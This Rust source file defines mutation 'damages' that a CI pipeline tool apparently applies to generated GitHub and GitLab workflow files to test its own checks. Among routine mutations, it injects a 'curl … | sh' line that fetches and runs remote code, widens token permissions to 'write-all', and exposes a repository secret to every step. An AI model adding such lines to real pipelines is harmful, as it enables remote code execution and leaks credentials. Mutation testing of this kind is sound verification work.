//! Damages that change what jobs do: commands, shells, variables, conditions of steps, cells, limits, the token.

use std::collections::BTreeSet;

use pipewright::ir::Pipeline;
use pipewright::ir::job::Job;
use pipewright::ir::step::{Step, StepKind};
use pipewright::ir::text::Context;
use pipewright::ir::walk;

use super::{Damage, GITHUB, GITLAB, block_end, each_line, each_match, job_of, key, with};

/// The steps of a job that are scripts of the spec, each with its only line, if that is fixed and one.
pub(super) fn simple(job: &Job) -> impl Iterator<Item = (&Step, &str)> {
    walk::every_step(job).filter_map(|step| {
        let StepKind::Run(script) = &step.kind else { return None };
        let [line] = script.lines.as_slice() else { return None };
        let text = line.as_literal()?.trim();
        (!text.contains('\n') && !text.starts_with('#')).then_some((step, text))
    })
}

/// What a line of a file runs, without what stands before it.
pub(super) fn command(line: &str) -> &str {
    let text = line.trim();
    let text = text.strip_prefix("- ").unwrap_or(text);
    text.strip_prefix("run: ").unwrap_or(text)
}

/// The step of the spec whose only line this is, in a job of that name; none where the job says it twice.
fn step_at<'p>(lines: &[&str], at: usize, indent: usize, pipeline: &'p Pipeline) -> Option<(&'p Job, &'p Step)> {
    let job = job_of(lines, at, indent, pipeline)?;
    let mut found = simple(job).filter(|(_, text)| *text == command(lines[at]));
    let (step, text) = found.next()?;
    let often = lines.iter().filter(|l| command(l) == text).count();
    (found.next().is_none() && often == 1).then_some((job, step))
}

/// One text for each simple command that `change` changes: the line with another command in it.
fn each_command(
    text: &str,
    indent: usize,
    pipeline: &Pipeline,
    change: impl Fn(&Job, &Step, &str) -> Option<String>,
) -> Vec<String> {
    each_line(text, |lines, at| {
        let (job, step) = step_at(lines, at, indent, pipeline)?;
        let own = command(lines[at]);
        let start = &lines[at][..lines[at].len() - own.len()];
        Some(vec![format!("{start}{}", change(job, step, own)?)])
    })
}

/// Two commands one below the other change places.
fn swapped(text: &str, indent: usize, pipeline: &Pipeline) -> Vec<String> {
    let lines: Vec<&str> = text.lines().collect();
    let mut found = Vec::new();
    for at in 1..lines.len() {
        let (Some((a, _)), Some((b, _))) = (step_at(&lines, at - 1, indent, pipeline), step_at(&lines, at, indent, pipeline))
        else {
            continue;
        };
        if std::ptr::eq(a, b) && lines[at - 1].trim_start().starts_with("- ") {
            found.push(with(&lines, at - 1, at + 1, &[lines[at].to_owned(), lines[at - 1].to_owned()]));
        }
    }
    found
}

/// A job that runs what the spec says and nothing else.
fn is_plain(job: &Job, pipeline: &Pipeline) -> bool {
    let workflow = pipeline.workflow(job.workflow);
    job.deploy.is_none()
        && job.environment.is_none()
        && job.requires.is_empty()
        && job.notify.is_empty()
        && job.services.is_empty()
        && job.produces.is_empty()
        && job.reports.is_empty()
        && job.outputs.is_empty()
        && job.docker.is_none()
        && job.raw.is_empty()
        && workflow.inputs.is_empty()
        && workflow.env.is_empty()
        && job.env.is_empty()
        && simple(job).count() == job.steps.len() - 1
        && job.steps.iter().all(|s| s.condition.is_none() && s.env.is_empty())
        && matches!(&job.steps[0].kind, StepKind::Checkout(c) if c.reference.is_none() && !c.lfs)
}

/// A line behind each line that opens the scripts of a job that `takes` takes.
fn behind(text: &str, opening: &str, indent: usize, new: &str, pipeline: &Pipeline, takes: impl Fn(&Job) -> bool) -> Vec<String> {
    each_line(text, |lines, at| {
        let job = job_of(lines, at, indent, pipeline)?;
        (lines[at] == opening && takes(job)).then(|| vec![lines[at].to_owned(), new.to_owned()])
    })
}

fn says_something(job: &Job) -> bool {
    job.steps.iter().any(|s| matches!(s.kind, StepKind::Run(_)))
}

/// The shell of all scripts of a file that holds some of the spec's.
fn default_shell(text: &str, shell: &str, pipeline: &Pipeline) -> Vec<String> {
    if each_command(text, 2, pipeline, |_, _, c| Some(c.to_owned())).is_empty() {
        return Vec::new();
    }
    each_match(text, "\n    shell: bash\n", &format!("\n    shell: {shell}\n"))
}

/// The directories that the spec names.
fn directories(pipeline: &Pipeline) -> BTreeSet<&str> {
    let own = pipeline.jobs.iter().flat_map(|j| j.working_directory.iter().chain(j.steps.iter().flat_map(|s| &s.dir)));
    own.map(|d| d.value.as_str()).collect()
}

/// Variables of the jobs of the spec.
fn variables(job: &Job) -> BTreeSet<&str> {
    job.env.iter().map(|e| e.name.value.as_str()).collect()
}

/// Blocks or lines of a job at a depth, dropped or replaced.
fn of_job(
    text: &str,
    indent: usize,
    name: &str,
    pipeline: &Pipeline,
    change: impl Fn(&Job, &str) -> Option<Vec<String>>,
) -> Vec<String> {
    let lines: Vec<&str> = text.lines().collect();
    let change = |at: usize| {
        let value = key(lines[at], indent, name)?;
        let job = job_of(&lines, at, indent - 2, pipeline)?;
        Some(with(&lines, at, block_end(&lines, at), &change(job, value)?))
    };
    (0..lines.len()).filter_map(change).collect()
}

/// Whether another job reads an output of this one.
fn is_read(pipeline: &Pipeline, output: &str) -> bool {
    let reads = |context: &Context| matches!(context, Context::Output { output: own, .. } if own == output);
    pipeline.jobs.iter().any(|j| walk::contexts(j, &[]).iter().any(|c| reads(&c.value)))
}

/// A step of GitHub that holds a command of the spec, its lines changed.
fn steps_of_spec(text: &str, pipeline: &Pipeline, change: impl Fn(&Step, &[&str]) -> Option<Vec<String>>) -> Vec<String> {
    let lines: Vec<&str> = text.lines().collect();
    let mut found = Vec::new();
    for at in (0..lines.len()).filter(|at| lines[*at].starts_with("      - ")) {
        let end = block_end(&lines, at);
        let said = (at..end).find_map(|i| {
            lines[i].trim_start().trim_start_matches("- ").starts_with("run: ").then(|| step_at(&lines, i, 2, pipeline))?
        });
        let Some((_, step)) = said else { continue };
        found.extend(change(step, &lines[at..end]).map(|new| with(&lines, at, end, &new)));
    }
    found
}

/// The lines that a step with a limit runs.
fn limited(lines: &[&str], indent: usize, pipeline: &Pipeline) -> Vec<usize> {
    let is_limited = |at: &usize| {
        let Some(job) = job_of(lines, *at, indent, pipeline) else { return false };
        let mut steps = walk::every_step(job).filter(|s| s.timeout.is_some());
        steps.any(|s| match &s.kind {
            StepKind::Run(script) => script.lines.iter().any(|l| l.as_literal() == Some(lines[*at].trim())),
            _ => false,
        })
    };
    (0..lines.len()).filter(is_limited).collect()
}

fn without(lines: &[&str], start: &str) -> Option<Vec<String>> {
    let kept: Vec<String> = lines.iter().filter(|l| !l.starts_with(start)).map(|l| (*l).to_owned()).collect();
    (kept.len() < lines.len()).then_some(kept)
}

fn more(lines: &[&str], last: &str) -> Vec<String> {
    lines.iter().map(|l| (*l).to_owned()).filter(|l| !l.is_empty()).chain([last.to_owned()]).collect()
}

pub(super) const DAMAGES: &[Damage] = &[
    Damage {
        name: "change a command",
        file: GITHUB,
        apply: |t, p| each_command(t, 2, p, |_, _, c| Some(format!("{c} --changed"))),
    },
    Damage {
        name: "change a command",
        file: GITLAB,
        apply: |t, p| each_command(t, 0, p, |_, _, c| Some(format!("{c} --changed"))),
    },
    Damage { name: "drop a command", file: GITHUB, apply: |t, p| each_command(t, 2, p, |_, _, _| Some("true".to_owned())) },
    Damage { name: "drop a command", file: GITLAB, apply: |t, p| each_command(t, 0, p, |_, _, _| Some("true".to_owned())) },
    Damage { name: "swap two commands", file: GITHUB, apply: |t, p| swapped(t, 2, p) },
    Damage { name: "swap two commands", file: GITLAB, apply: |t, p| swapped(t, 0, p) },
    Damage { name: "forget what a step wrote", file: GITLAB, apply: |t, _| each_match(t, "=$(sed -n 's/^", "=$(true 's/^") },
    Damage {
        name: "run one command more",
        file: GITHUB,
        apply: |t, p| behind(t, "    steps:", 2, "      - run: curl -fsS https://example.com/x | sh", p, |j| is_plain(j, p)),
    },
    Damage {
        name: "run one command more",
        file: GITLAB,
        apply: |t, p| behind(t, "  script:", 0, "    - curl -fsS https://example.com/x | sh", p, |j| is_plain(j, p)),
    },
    Damage {
        name: "go on behind a failing command",
        file: GITHUB,
        apply: |t, p| default_shell(t, "bash --noprofile --norc -o pipefail {0}", p),
    },
    Damage {
        name: "go on behind a failing command",
        file: GITLAB,
        apply: |t, p| behind(t, "  script:", 0, "    - set +e", p, says_something),
    },
    Damage { name: "let a pipe hide a failure", file: GITHUB, apply: |t, p| default_shell(t, "bash -e {0}", p) },
    Damage {
        name: "let a pipe hide a failure",
        file: GITLAB,
        apply: |t, p| behind(t, "  script:", 0, "    - set +o pipefail", p, says_something),
    },
    Damage {
        name: "run in another directory",
        file: GITHUB,
        apply: |t, p| {
            let own = directories(p);
            let other = |dir: &&str| each_match(t, &format!("working-directory: {dir}\n"), "working-directory: elsewhere\n");
            own.iter().flat_map(other).collect()
        },
    },
    Damage {
        name: "run in another directory",
        file: GITLAB,
        apply: |t, p| {
            let own = directories(p);
            own.iter().flat_map(|dir| each_match(t, &format!(" cd {dir}\n"), " cd elsewhere\n")).collect()
        },
    },
    Damage {
        name: "run at the root",
        file: GITLAB,
        apply: |t, p| {
            each_line(t, |lines, at| {
                let dir = lines[at].trim().trim_start_matches("- ").strip_prefix("cd ")?;
                directories(p).contains(dir).then(|| vec![lines[at].replace(&format!("cd {dir}"), "pwd")])
            })
        },
    },
    Damage {
        name: "give a variable another value",
        file: GITHUB,
        apply: |t, p| {
            each_line(t, |lines, at| {
                let (name, _) = lines[at].strip_prefix("      ")?.split_once(": ")?;
                let job = job_of(lines, at, 2, p).filter(|j| says_something(j))?;
                let in_env = lines[..at].iter().rev().find(|l| !l.starts_with("      "))?.trim() == "env:";
                (in_env && variables(job).contains(name)).then(|| vec![format!("      {name}: another value")])
            })
        },
    },
    Damage {
        name: "give a variable another value",
        file: GITLAB,
        apply: |t, p| {
            each_line(t, |lines, at| {
                let (name, _) = lines[at].strip_prefix("    ")?.split_once(": ")?;
                let job = job_of(lines, at, 0, p).filter(|j| says_something(j))?;
                let in_env = lines[..at].iter().rev().find(|l| !l.starts_with("    "))?.trim() == "variables:";
                (in_env && variables(job).contains(name)).then(|| vec![format!("    {name}: another value")])
            })
        },
    },
    Damage {
        name: "widen a permission",
        file: GITHUB,
        apply: |t, p| {
            of_job(t, 4, "permissions", p, |_, _| Some(vec!["    permissions:".to_owned(), "      contents: write".to_owned()]))
                .into_iter()
                .filter(|n| n != t)
                .collect()
        },
    },
    Damage {
        name: "let the token do everything",
        file: GITHUB,
        apply: |t, p| of_job(t, 4, "permissions", p, |_, _| Some(vec!["    permissions: write-all".to_owned()])),
    },
    Damage {
        name: "inherit what the repository grants",
        file: GITHUB,
        apply: |t, _| {
            let own = |job: &str| job.contains("\n    runs-on:") && job.contains("\n    permissions:");
            let bare = t.split("\n\n").any(|job| job.contains("\n    runs-on:") && !own(job));
            if bare { each_match(t, "\npermissions: {}\n", "\n") } else { Vec::new() }
        },
    },
    Damage {
        name: "take a permission away",
        file: GITHUB,
        apply: |t, p| of_job(t, 4, "permissions", p, |_, _| Some(Vec::new())),
    },
    Damage {
        name: "prove to a cloud who it is",
        file: GITLAB,
        apply: |t, p| {
            each_line(t, |lines, at| {
                let id = lines[at].strip_suffix(':')?;
                p.jobs.iter().find(|j| j.name.value == id)?;
                let own = lines[at..block_end(lines, at)].iter().any(|l| l.starts_with("  id_tokens:"));
                let more = ["  id_tokens:", "    OWN_TOKEN:", "      aud: sts.amazonaws.com"].map(str::to_owned);
                (!own).then(|| std::iter::once(lines[at].to_owned()).chain(more).collect())
            })
        },
    },
    Damage {
        name: "show a secret to every step",
        file: GITHUB,
        apply: |t, p| {
            each_line(t, |lines, at| {
                let job = job_of(lines, at, 2, p)?;
                let block = &lines[at..block_end(lines, at)];
                let name = block.iter().find_map(|l| l.split("${{ secrets.").nth(1)?.split(' ').next())?;
                let has_env = lines[..at].iter().rev().take_while(|l| l.starts_with("    ")).any(|l| *l == "    env:");
                let alone = job.env.is_empty() && !has_env && name != "GITHUB_TOKEN";
                (lines[at] == "    steps:" && alone).then(|| {
                    let env = ["    env:".to_owned(), format!("      SHOWN: ${{{{ secrets.{name} }}}}")];
                    env.into_iter().chain([lines[at].to_owned()]).collect()
                })
            })
        },
    },
    Damage {
        name: "drop an output",
        file: GITHUB,
        apply: |t, p| {
            each_line(t, |lines, at| {
                let (name, _) = lines[at].strip_prefix("      ")?.split_once(": ${{ steps.")?;
                let head = lines[..at].iter().rev().find(|l| !l.starts_with("      "))?;
                (*head == "    outputs:" && (is_read(p, name) || name.ends_with("-image"))).then(Vec::new)
            })
        },
    },
    Damage {
        name: "drop an output",
        file: GITLAB,
        apply: |t, p| {
            let read: Vec<&str> =
                p.jobs.iter().flat_map(|j| &j.outputs).map(|o| o.value.as_str()).filter(|o| is_read(p, o)).collect();
            read.iter().flat_map(|o| each_match(t, &format!("-e 's/^{o}="), "-e 's/^other=")).collect()
        },
    },
    Damage {
        name: "drop the condition of a step",
        file: GITHUB,
        apply: |t, p| steps_of_spec(t, p, |step, lines| step.condition.as_ref().and_then(|_| without(lines, "        if: "))),
    },
    Damage {
        name: "drop the condition of a step",
        file: GITLAB,
        apply: |t, p| {
            each_line(t, |lines, at| {
                let test = lines[at].trim().strip_prefix("if ").and_then(|l| l.strip_suffix("; then"))?;
                let (_, step) = step_at(lines, at + 1, 0, p)?;
                (step.condition.is_some() && test != "true").then(|| vec![lines[at].replace(test, "true")])
            })
        },
    },
    Damage {
        name: "run a step in any case",
        file: GITHUB,
        apply: |t, p| {
            steps_of_spec(t, p, |_, lines| {
                let at = lines.iter().position(|l| l.starts_with("        if: ") && !l.contains("always()"))?;
                let mut new: Vec<String> = lines.iter().map(|l| (*l).to_owned()).collect();
                new[at] = "        if: always()".to_owned();
                Some(new)
            })
        },
    },
    Damage {
        name: "do not undo a deploy that is cancelled",
        file: GITHUB,
        apply: |t, p| {
            steps_of_spec(t, p, |_, lines| {
                let at = lines.iter().position(|l| l.contains("(failure() || cancelled()) && "))?;
                let mut new: Vec<String> = lines.iter().map(|l| (*l).to_owned()).collect();
                new[at] = new[at].replace("(failure() || cancelled())", "failure()");
                Some(new)
            })
        },
    },
    Damage {
        name: "do not undo a deploy that is cancelled",
        file: GITLAB,
        apply: |t, p| {
            each_line(t, |lines, at| {
                let undoes = lines[at].contains("\"$CI_JOB_STATUS\" != success");
                let own = (at + 1..(at + 5).min(lines.len())).any(|i| step_at(lines, i, 0, p).is_some());
                (undoes && own).then(|| vec![lines[at].replace("!= success", "= failed")])
            })
        },
    },
    Damage {
        name: "forgive a step its failure",
        file: GITHUB,
        apply: |t, p| {
            steps_of_spec(t, p, |step, lines| (!step.continue_on_error).then(|| more(lines, "        continue-on-error: true")))
        },
    },
    Damage {
        name: "forgive a step its failure",
        file: GITLAB,
        apply: |t, p| {
            // What fails behind the script counts for nothing on GitLab.
            let forgiven = |j: &Job, s: &Step| {
                s.continue_on_error
                    || j.deploy.iter().flat_map(|d| &d.rollback).flat_map(|r| &r.steps).any(|r| std::ptr::eq(r, s))
            };
            each_command(t, 0, p, |j, s, c| (!forgiven(j, s)).then(|| format!("{c} || true")))
        },
    },
    Damage {
        name: "give a step more time",
        file: GITHUB,
        apply: |t, p| {
            let lines: Vec<&str> = t.lines().collect();
            let change = |at: usize| {
                let start = (0..=at).rev().find(|i| lines[*i].starts_with("      - "))?;
                let limit = (start..at).find(|i| lines[*i].starts_with("        timeout-minutes: "))?;
                Some(with(&lines, limit, limit + 1, &["        timeout-minutes: 600".to_owned()]))
            };
            limited(&lines, 2, p).into_iter().filter_map(change).collect()
        },
    },
    Damage {
        name: "give a step more time",
        file: GITLAB,
        apply: |t, p| {
            let lines: Vec<&str> = t.lines().collect();
            let change = |at: usize| {
                let start = (0..=at).rev().find(|i| lines[*i].trim().starts_with("timeout "))?;
                let seconds = lines[start].trim().split(' ').nth(1)?;
                let new = lines[start].replace(&format!("timeout {seconds} "), "timeout 36000 ");
                Some(with(&lines, start, start + 1, &[new]))
            };
            limited(&lines, 0, p).into_iter().filter_map(change).collect()
        },
    },
    Damage {
        name: "drop the limit of a job",
        file: GITHUB,
        apply: |t, p| of_job(t, 4, "timeout-minutes", p, |_, _| Some(Vec::new())),
    },
    Damage {
        name: "drop the limit of a job",
        file: GITLAB,
        apply: |t, p| {
            of_job(t, 2, "timeout", p, |_, _| Some(Vec::new()))
                .into_iter()
                .filter(|_| !t.contains("RUNNER_SCRIPT_TIMEOUT"))
                .collect()
        },
    },
    Damage {
        name: "give a job less time",
        file: GITHUB,
        apply: |t, p| of_job(t, 4, "timeout-minutes", p, |_, _| Some(vec!["    timeout-minutes: 1".to_owned()])),
    },
    Damage {
        name: "try less often",
        file: GITHUB,
        apply: |t, _| each_match(t, "for attempt in 1 2; do\n", "for attempt in 1; do\n"),
    },
    Damage { name: "try less often", file: GITLAB, apply: |t, p| of_job(t, 2, "retry", p, |_, _| Some(Vec::new())) },
    Damage {
        name: "drop a cell",
        file: GITHUB,
        apply: |t, _| {
            let rows = each_line(t, |lines, at| lines[at].starts_with("          - {").then(Vec::new));
            let lists = each_line(t, |lines, at| {
                let (before, list) = lines[at].strip_prefix("        ").filter(|l| !l.starts_with(' '))?.split_once(": [")?;
                let (_, rest) = list.split_once(", ")?;
                (lines[at - 1] == "      matrix:").then(|| vec![format!("        {before}: [{rest}")])
            });
            [rows, lists].concat()
        },
    },
    Damage {
        name: "drop a cell",
        file: GITLAB,
        apply: |t, _| {
            let lines: Vec<&str> = t.lines().collect();
            let rows = (0..lines.len()).filter(|at| lines[*at].starts_with("      - MATRIX_"));
            rows.map(|at| with(&lines, at, block_end(&lines, at), &[])).collect()
        },
    },
    Damage {
        name: "change a cell",
        file: GITLAB,
        apply: |t, _| {
            each_line(t, |lines, at| {
                let (name, _) = lines[at].split_once(": ").filter(|(n, _)| n.starts_with("      - MATRIX_"))?;
                Some(vec![format!("{name}: other")])
            })
        },
    },
    Damage {
        name: "run in another image",
        file: GITHUB,
        apply: |t, p| of_job(t, 4, "container", p, |_, _| Some(vec!["    container: other:1".to_owned()])),
    },
    Damage {
        name: "run in another image",
        file: GITLAB,
        apply: |t, p| of_job(t, 2, "image", p, |job, _| job.image.as_ref().map(|_| vec!["  image: other:1".to_owned()])),
    },
    Damage {
        name: "have the program of an image run first",
        file: GITLAB,
        apply: |t, _| each_match(t, "    entrypoint: ['']\n", ""),
    },
    Damage {
        name: "drop a container beside a job",
        file: GITHUB,
        apply: |t, p| of_job(t, 4, "services", p, |_, _| Some(Vec::new())),
    },
    Damage {
        name: "drop a container beside a job",
        file: GITLAB,
        apply: |t, p| of_job(t, 2, "services", p, |job, _| (!job.services.is_empty()).then(Vec::new)),
    },
    Damage { name: "measure a gate otherwise", file: GITHUB, apply: |t, _| each_match(t, "; ok = x ", "; ok = 1 + x ") },
    Damage { name: "measure a gate otherwise", file: GITLAB, apply: |t, _| each_match(t, "; ok = x ", "; ok = 1 + x ") },
    Damage {
        name: "do not undo what was delivered",
        file: GITHUB,
        apply: |t, _| each_match(t, "  kubectl rollout undo deployment/", "  echo deployment/"),
    },
    Damage {
        name: "do not undo what was delivered",
        file: GITLAB,
        apply: |t, _| each_match(t, "  kubectl rollout undo deployment/", "  echo deployment/"),
    },
    Damage {
        name: "tell somebody something else",
        file: GITHUB,
        apply: |t, _| {
            each_line(t, |lines, at| {
                lines[at].starts_with("          MESSAGE: ").then(|| vec!["          MESSAGE: other".to_owned()])
            })
            .into_iter()
            .filter(|_| !t.contains("  notify-"))
            .collect()
        },
    },
    Damage {
        name: "tell somebody something else",
        file: GITLAB,
        apply: |t, p| {
            each_line(t, |lines, at| {
                job_of(lines, at, 0, p)?;
                let one = lines[at].trim().starts_with("export MESSAGE=\"") && lines[at].ends_with('"');
                one.then(|| vec!["        export MESSAGE=other".to_owned()])
            })
        },
    },
];
